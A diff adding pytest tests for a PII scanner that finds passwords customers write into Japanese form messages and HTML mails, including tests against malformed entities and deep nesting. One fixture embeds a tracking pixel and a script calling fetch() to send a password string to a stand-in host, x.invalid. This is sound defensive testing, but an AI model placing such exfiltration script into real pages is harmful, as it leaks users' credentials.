@@ -1,0 +1,82 @@
+"""A password a customer writes into a sentence of a form or a mail (パスワードは"…"です)."""
+
+from __future__ import annotations
+
+import random
+import socket
+import string
+from email.message import EmailMessage
+
+import pytest
+
+from leakscope import pii
+from leakscope.pii import detect
+
+
+def _password(seed: int) -> str:
+    rng = random.Random(seed)
+    return rng.choice(["Hana", "Sakura", "Tokyo"]) + "".join(
+        rng.choice(string.digits) for _ in range(5)) + rng.choice("!#$")
+
+
+def _credentials(text: str) -> list[str]:
+    return [f.value for f in detect(text) if f.category == "credential"]
+
+
+@pytest.mark.parametrize("sentence", [
+    'パスワードは"{pw}"です。', "パスワードは「{pw}」です。", "暗証番号は『{pw}』になります",
+    "パスワードは{pw}です。", "パスワードが {pw} のままです", "my password is '{pw}', sorry"])
+def test_a_password_in_a_sentence_is_a_credential(sentence):
+    pw = _password(len(sentence))
+    assert _credentials("ログインできません。" + sentence.format(pw=pw)) == [pw]
+
+
+@pytest.mark.parametrize("sentence", [
+    "パスワードはLINEで送ります。", "パスワードを2024-05-01に変更しました。",
+    "パスワードは8文字以上です", "パスワードを忘れました", 'パスワードは"abc',
+    "パスワードは「ab」です"])
+def test_sentences_about_a_password_give_none(sentence):
+    assert _credentials(sentence) == []
+
+
+def _form_html(name: str, pw: str) -> str:
+    return ("<html><body><p>お問い合わせフォームから以下の内容が送信されました。</p>"
+            "<table border=1>"
+            f"<tr><th>お名前</th><td>{name} 様</td></tr><tr><th>お問い合わせ内容</th><td>ログイン"
+            f"できません。<br>パスワードは&quot;{pw}&quot;です。</td></tr></table>"
+            "<img src='http://tracker.invalid/p.gif'><script>fetch('http://x.invalid/'+"
+            "'パスワードは&quot;Script0001!&quot;')</script></body></html>")
+
+
+@pytest.mark.parametrize("charset,cte", [("iso-2022-jp", "7bit"), ("utf-8", "quoted-printable"),
+                                         ("shift_jis", "base64")])
+def test_an_html_mail_s_escaped_quotes_are_read_as_quotes(tmp_path, monkeypatch, charset, cte):
+    pw = _password(3)
+    message = EmailMessage()
+    message["From"] = "noreply@shop.example.jp"
+    message["To"] = "support@shop.example.jp"
+    message["Subject"] = "お問い合わせ"
+    message.set_content(_form_html("井上 太郎", pw), subtype="html", charset=charset, cte=cte)
+    path = tmp_path / "form.eml"
+    path.write_bytes(message.as_bytes())
+
+    def no_network(*args, **kwargs):
+        raise AssertionError("the scan opened a socket")
+
+    monkeypatch.setattr(socket, "socket", no_network)
+    found = [f for f in pii.scan([path], workers=1) if isinstance(f, pii.Finding)]
+    creds = [f for f in found if f.category == "credential"]
+    assert [(f.value, f.location["body"]) for f in creds] == [(pw, "text/html")]  # not the script's
+    assert [f.value for f in found if f.category == "person_name"] == ["井上太郎"]
+
+
+def test_hostile_html_entities_and_nesting_are_bounded_text(tmp_path):
+    pw = _password(4)
+    junk = "&#0;&#x110000;&#99999999999;&quot&amp;quot;&unknown;<div>" * 2000 + "<b " * 5000
+    html = f"<p>パスワードは&quot;{pw}&quot;です。</p>{junk}<p>パスワードは&#34;{pw}X&#x22;です</p>"
+    path = tmp_path / "page.html"
+    path.write_text(html, encoding="utf-8")
+    run = pii.scan([path], workers=1)
+    found = [f for f in run if isinstance(f, pii.Finding)]
+    assert [f.value for f in found if f.category == "credential"] == [pw, pw + "X"]  # after it
+    assert run.summary.errors == 0
